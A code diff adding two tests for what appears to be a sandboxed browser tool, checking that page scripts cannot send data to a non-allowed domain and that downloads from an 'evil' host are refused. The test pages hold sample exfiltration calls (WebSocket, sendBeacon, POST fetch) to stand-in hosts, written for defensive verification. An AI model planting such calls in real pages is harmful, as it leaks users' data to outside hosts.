@@ -73,6 +73,33 @@ def test_links_tabs_and_frames_to_a_denied_domain_are_stopped(surf: Surfer, site
     assert 'textbox "Note" = "kept"' in surf.look(find="note")
 
 
+def test_what_scripts_send_beyond_the_allowed_domains_does_not_leave(
+    surf: Surfer, site: Site
+) -> None:
+    page = """<p id=out></p><button id=b>Save</button><script>b.onclick = async () => {
+      try { new WebSocket('ws://other.test/socket'); } catch {}
+      navigator.sendBeacon('http://other.test/beacon', 'x');
+      const sent = fetch('http://other.test/fetch', {method: 'POST', body: 'x'});
+      out.textContent = (await sent.catch(e => e)).message; };</script>"""
+    surf.open(site.put(page))
+    said = surf("click", target="Save")
+    for way in ("http://other.test/fetch", "http://other.test/beacon", "ws://other.test/socket"):
+        assert f"not loaded: {way} (the domain other.test is not among the allowed ones" in said
+    assert "Failed to fetch" in said
+
+
+def test_a_file_is_waited_for_until_it_is_whole(surf: Surfer, site: Site) -> None:
+    evil = site.url("file", host="evil.localhost")
+    page = f"<a href='/file'>Menu card</a> <a href='{evil}' download>Trap</a> <button>None</button>"
+    surf.open(site.put(page))
+    assert ": verified ('menu.txt', 4 bytes)" in surf("download", target="Menu card")
+    with pytest.raises(ToolError, match="^refused: .*evil.localhost is denied"):
+        surf("download", target="Trap")
+    with pytest.raises(ToolError, match="^timeout: .*no file came"):
+        surf("download", target="None")
+    assert not any(host.startswith("evil") for host in site.asked)
+
+
 def test_a_download_is_told_and_one_from_a_denied_domain_is_not_made(
     surf: Surfer, site: Site
 ) -> None:
